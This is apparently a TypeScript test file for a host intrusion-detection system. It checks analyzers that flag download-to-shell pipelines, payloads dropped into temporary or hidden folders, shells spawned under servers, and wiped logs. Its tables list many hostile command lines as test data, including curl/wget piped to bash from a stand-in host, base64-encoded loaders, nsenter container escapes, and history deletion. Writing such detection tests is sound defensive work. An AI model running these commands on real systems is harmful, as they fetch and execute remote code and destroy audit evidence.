import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CONTEXT_ANALYZERS } from '#shared/analyzers/context/analyzers.ts';
import type { Process } from '#shared/model/event.ts';
import { launch } from '../miner/fixture.ts';
import { decideAll, file, holdToContract, shell, told } from '../optimization/fixture.ts';

type Table = readonly (readonly [string, string])[];

function holds(name: string, rule: string, table: Table): void {
  test(name, () => {
    for (const [line, expected] of table) {
      const only = CONTEXT_ANALYZERS.filter(({ id }) => id === rule);
      assert.equal(told(only, shell(line)), expected === '-' ? '-' : `${rule}${expected}`, line);
    }
  });
}

holds('sees fetched and decoded code given to a shell', 'download_to_shell', [
  ['(curl -s http://198.51.100.9/ldr.sh || wget -q -O- http://198.51.100.9/ldr.sh) | sh', '/download weak'],
  ['wget -q -O - http://198.51.100.9/d.sh | bash -sh', '/download weak'],
  ['bash <(curl -s http://198.51.100.9/x)', '/download weak'],
  ['bash -c "$(curl -fsSL http://198.51.100.9/x)"', '/download weak'],
  ['python3 -c "import urllib.request as u;exec(u.urlopen(\'http://198.51.100.9/a\').read())"', '/download weak'],
  ['echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | bash', '/decode weak'],
  ['curl -s https://example.com/a.json | python3 -m json.tool', '-'],
  ['curl -s https://example.com/list | grep sh | sort', '-'],
  ['wget -q https://example.com/a.sh', '-'],
  ['echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d > /tmp/a.txt', '-'],
  ['/root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null', '-'],
]);

holds('sees a download given to a shell in loops, conditions and functions as it does alone', 'download_to_shell', [
  ['while true; do curl -s http://198.51.100.9/a.sh | sh; sleep 60; done', '/download weak'],
  ['while true; do curl -s http://198.51.100.9/a.sh; sleep 60; done | sh', '/download weak'],
  ['until wget -qO- http://198.51.100.9/a.sh | bash; do sleep 9; done', '/download weak'],
  ['for i in 1 2; do curl -s http://198.51.100.9/$i.sh; done | sh', '/download weak'],
  ['if true; then curl -s http://198.51.100.9/a; else wget -qO- http://198.51.100.9/a; fi | bash', '/download weak'],
  ['f() { curl -s http://198.51.100.9/a.sh | sh; }; f', '/download weak'],
  ['while true; do curl -s https://example.com/health; sleep 60; done | grep ok; sh -c date', '-'],
  ['curl -s https://example.com/list | while read a; do sh /opt/b.sh $a; done', '-'],
  ['if curl -s https://example.com/health; then echo ok; fi | logger; ls | sh', '-'],
]);

holds('sees code given to a shell behind assignments, launchers and braces', 'download_to_shell', [
  ['curl -s http://198.51.100.9/x.sh | LC_ALL=en_US.UTF-8 bash -s x', '/download weak'],
  ['curl -sfL http://198.51.100.9/x | INSTALL_EXEC="server" sh -s -', '/download weak'],
  ['curl -s http://198.51.100.9/x | sudo -E bash -', '/download weak'],
  ['timeout 60 setsid bash -c "curl http://198.51.100.9/x | sh"', '/download weak'],
  ['nsenter --mount=/proc/1/ns/mnt -- sh -c "curl http://198.51.100.9/x | sh"', '/download weak'],
  ['nsenter -m/proc/1/ns/mnt sh -c "curl http://198.51.100.9/x | sh"', '/download weak'],
  ['su - postgres -c "curl http://198.51.100.9/x | sh"', '/download weak'],
  ['find / -name a -exec sh -c "curl http://198.51.100.9/x | sh" \\;', '/download weak'],
  ['curl -s http://198.51.100.9/x | xargs -I{} sh -c "{}"', '/download weak'],
  ['echo http://198.51.100.9/x | xargs curl -s | sh', '/download weak'],
  ['echo "curl -s http://198.51.100.9/x | sh" | at now', '/download weak'],
  ['{curl,-s,http://198.51.100.9/x}|{bash,-i}', '/download weak'],
  ['{echo,Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA==}|{base64,-d}|bash', '/decode weak'],
]);

holds('sees what is fetched in other ways, held in variables and passed on', 'download_to_shell', [
  ['busybox wget -O- http://198.51.100.9/x | busybox sh', '/download weak'],
  ['fetch -o - http://198.51.100.9/x | sh', '/download weak'],
  ['lynx -dump http://198.51.100.9/x | sh', '/download weak'],
  ['GET http://198.51.100.9/x | sh', '/download weak'],
  ['cat < /dev/tcp/198.51.100.9/80 | bash', '/download weak'],
  ['aws s3 cp s3://example-bucket/x.sh - | bash', '/download weak'],
  ['dig +short txt x.example.com | base64 -d | sh', '/download weak'],
  ['curl -s http://198.51.100.9/x | base64 -d | sh', '/download weak'],
  ['curl -s http://198.51.100.9/x | tee /opt/x | sh', '/download weak'],
  ['curl -s http://198.51.100.9/x | tee >(bash)', '/download weak'],
  ['curl -s http://198.51.100.9/x > >(bash)', '/download weak'],
  ['bash -s a < <(wget -qO- http://198.51.100.9/x)', '/download weak'],
  ['source <(curl -s http://198.51.100.9/x)', '/download weak'],
  ['bash <<< "$(curl -s http://198.51.100.9/x)"', '/download weak'],
  ['X=$(curl -s http://198.51.100.9/x); eval "$X"', '/download weak'],
  ['X=$(curl -s http://198.51.100.9/x); echo "$X" | sh', '/download weak'],
  ['LDR="wget -q -O -"; $LDR http://198.51.100.9/x | bash', '/download weak'],
  ['python3 <(curl -s http://198.51.100.9/x.py)', '/download weak'],
  ['python3 -c \'import os; os.system("curl http://198.51.100.9/x|sh")\'', '/download weak'],
  ['perl -MLWP::Simple -e \'eval get("http://198.51.100.9/x")\'', '/download weak'],
  ['awk \'BEGIN{system("curl http://198.51.100.9/x | sh")}\'', '/download weak'],
]);

holds('leaves alone what fetches, pipes and starts shells without running what it fetched', 'download_to_shell', [
  ['curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /etc/apt/keyrings/x.gpg', '-'],
  ['curl -fsSL https://example.com/x.list | sudo tee /etc/apt/sources.list.d/x.list', '-'],
  ['curl -L https://example.com/a.tgz | tar xz -C /opt; sh -c date', '-'],
  ['curl -s https://example.com/x.yaml | kubectl apply -f -', '-'],
  ['docker exec web sh -c "curl -s http://127.0.0.1/health | grep ok"', '-'],
  ['ssh host "curl -s http://127.0.0.1/health" | grep ok', '-'],
  ['echo uptime | ssh host bash -s', '-'],
  ['curl -s https://example.com/a.json | python3 -mjson.tool', '-'],
  ['curl -s https://example.com/a | perl -pe "s/a/b/"', '-'],
  ['curl -s https://example.com/list | xargs -I{} sh -c "echo {}"', '-'],
  ['curl -s https://example.com/a > /opt/a | sh', '-'],
  ['curl -o/opt/a https://example.com/a | sh', '-'],
  ['fetch https://example.com/a | sh', '-'],
  ['bash /opt/run.sh "$(curl -s http://169.254.169.254/latest/meta-data/instance-id)"', '-'],
  ['T=$(curl -s https://example.com/t); docker pull "x:$T" | bash /opt/a.sh', '-'],
  ['eval "$(ssh-agent -s)"', '-'],
]);

test('tells where a download runs: here, in a container that is started or entered, or on another machine', () => {
  const inside = 'sh -c "curl http://198.51.100.9/x.sh|bash"';
  const table: readonly (readonly [string, readonly string[], RegExp])[] = [
    [inside, [], /run by bash: /],
    [`docker run -v /:/mnt --rm alpine chroot /mnt ${inside}`, ['launch'], /in a container: /],
    [`kubectl exec web-0 -- ${inside}`, ['launch'], /in a container: /],
    [`crictl exec -it abc ${inside}`, ['launch'], /in a container: /],
    [`ctr -n k8s.io run --rm docker.io/library/alpine:3 t1 ${inside}`, ['launch'], /in a container: /],
    ['ssh root@192.0.2.7 "curl http://198.51.100.9/x.sh|bash"', [], /on another machine: /],
    ['curl http://198.51.100.9/x.sh | ssh root@192.0.2.7', [], /on another machine: /],
    [
      'ssh root@192.0.2.7 "curl http://198.51.100.9/x.sh|sh"; curl http://198.51.100.9/x.sh | bash',
      [],
      /run by bash: /,
    ],
  ];
  const only = CONTEXT_ANALYZERS.filter(({ id }) => id === 'download_to_shell');
  for (const [line, flags, why] of table) {
    const [exact] = decideAll(only, shell(line));
    assert.deepEqual(exact?.flags ?? [], flags, line);
    assert.match(exact?.why ?? '', why, line);
    const [bare] = decideAll(only, launch(line.replaceAll('"', '').split(' '), { exact: false }));
    assert.deepEqual([bare?.strength, bare?.flags ?? []], ['weak', flags], `${line} without quotes`);
  }
});

test('names the addresses in code that the command line holds encoded', () => {
  const line = 'echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | bash';
  assert.deepEqual(decideAll(CONTEXT_ANALYZERS, shell(line))[0]?.artifacts, ['url:http://198.51.100.9/x']);
});

test('names the addresses that were fetched', () => {
  const [verdict] = decideAll(CONTEXT_ANALYZERS, shell('curl -s http://198.51.100.9/ldr.sh | sh'));
  assert.deepEqual(verdict?.artifacts, ['url:http://198.51.100.9/ldr.sh']);
});

holds('sees programs put into writable and hidden folders', 'executable_downloaded', [
  ['curl -o /tmp/kx http://198.51.100.9/kx', '/download weak'],
  ['cd /dev/shm; wget http://198.51.100.9/a/redtail.x86_64', '/download weak'],
  ['wget -q http://198.51.100.9/sys -O /var/tmp/a1b2c3', '/download weak'],
  ['wget -P /tmp/.X25-unix http://198.51.100.9/dota3.tar.gz', '/download weak'],
  ['curl -s http://198.51.100.9/x > /root/.cfg/run', '/download weak'],
  ['chmod +x /tmp/.migo', '/mode weak'],
  ['chmod 777 /dev/shm/a', '/mode weak'],
  ['curl -fsSL https://example.com/key.asc -o /tmp/key.asc', '-'],
  ['curl -o /usr/local/bin/kubectl https://example.com/kubectl && chmod +x /usr/local/bin/kubectl', '-'],
  ['curl -s https://example.com/health > /dev/null', '-'],
  ['wget -q https://example.com/a.tar.gz -O /tmp/a.tar.gz', '-'],
  ['chmod 644 /tmp/a', '-'],
  ['chmod -x /tmp/a', '-'],
]);

test('ties a fetched program to its path and address', () => {
  const [verdict] = decideAll(CONTEXT_ANALYZERS, shell('cd /var/tmp && curl -O http://198.51.100.9/b/kx?s=1'));
  assert.deepEqual(verdict?.artifacts, ['path:/var/tmp/kx', 'url:http://198.51.100.9/b/kx?s=1']);
});

test('sees the file that a downloader creates', () => {
  const by = (executable: string, path: string): string =>
    told(CONTEXT_ANALYZERS, file(path, { executable }, 'create'));
  assert.equal(by('/usr/bin/curl', '/tmp/kx'), 'executable_downloaded/download weak');
  assert.equal(by('/usr/bin/wget', '/dev/shm/.a/b'), 'executable_downloaded/download weak');
  assert.equal(by('/usr/bin/wge', '/var/tmp/sysupdate'), 'executable_downloaded/download weak');
  assert.equal(by('/usr/bin/curl', '/tmp/a.json'), '-');
  assert.equal(by('/usr/bin/curl', '/opt/app/run'), '-');
  assert.equal(by('/usr/bin/vim', '/tmp/kx'), '-');
});

test('sees a shell under a server, by any of the fields that name it', () => {
  const table: readonly (readonly [Partial<Process>, string])[] = [
    [{ parentName: 'nginx' }, 'weak'],
    [{ parentExecutable: '/usr/sbin/php-fpm8.2' }, 'weak'],
    [{ parentExecutable: '/usr/lib/postgresql/16/bin/postgres' }, 'weak'],
    [{ parentName: 'redis-server' }, 'weak'],
    [{ parentName: 'sh', ancestors: ['sh', 'httpd', 'systemd'] }, 'weak'],
    [{ parentExecutable: '/usr/lib/jvm/java-17/bin/java' }, 'note'],
    [{ parentName: 'node', parentCommandLine: 'node /srv/app/server.js' }, 'note'],
    [{ parentName: 'node', parentCommandLine: 'node /usr/bin/npm run build' }, '-'],
    [{ parentName: 'sshd' }, '-'],
    [{ parentName: 'crond' }, '-'],
    [{ parentName: 'bash', ancestors: ['bash', 'sshd', 'nginx'] }, '-'],
    [{ parentName: 'nginx-exporter' }, '-'],
  ];
  for (const [more, strength] of table) {
    const expected = strength === '-' ? '-' : `shell_under_server ${strength}`;
    assert.equal(told(CONTEXT_ANALYZERS, shell('id; uname -a', more)), expected, JSON.stringify(more));
  }
  assert.equal(told(CONTEXT_ANALYZERS, launch(['convert', 'a.png'], { parentName: 'php-fpm' })), '-');
  const archive = shell('cp pg_wal/0001 /backup/0001', { parentName: 'postgres' });
  assert.equal(told(CONTEXT_ANALYZERS, archive), '-');
});

holds('sees logs and history wiped', 'log_wiping', [
  ['echo > /var/log/wtmp', ' weak'],
  ['cat /dev/null > /var/log/secure', ' weak'],
  ['rm -rf /var/log/syslog', ' weak'],
  ['ln -sf /dev/null /root/.bash_history', ' weak'],
  ['rm -f ~/.bash_history', ' weak'],
  ['truncate -s 0 /var/log/auth.log', ' weak'],
  ['echo started >> /var/log/messages', '-'],
  ['rm -f /var/log/nginx/access.log.9.gz', '-'],
  ['tail -f /var/log/secure', '-'],
  ['cp /root/.bash_history /backup/h', '-'],
]);

test('answers no event without a needle, and never throws', () => {
  const words =
    `curl wget -O -o /tmp/kx http://198.51.100.9/kx - | sh bash <( ) $( chmod +x 777 /dev/shm/a ; && echo > /var/log/wtmp
    rm ~/.bash_history ln /dev/null base64 -d python3 -c exec(urlopen) cd /var/tmp https://example.com/a.json`.split(
      /\s+/,
    );
  const scripts = [
    'curl -s http://198.51.100.9/kx | sh',
    'wget -O /tmp/kx http://198.51.100.9/kx',
    'rm -f /root/.bash_history',
    'chmod +x /dev/shm/a',
  ];
  const byNeedle = CONTEXT_ANALYZERS.filter(({ id }) => id !== 'shell_under_server');
  const answered = holdToContract(
    byNeedle,
    [...words, ...scripts, ...scripts, ...scripts],
    ['nginx', 'java', 'sshd', 'postgres'],
  );
  assert.ok(answered > 100, `${answered} answers`);
});
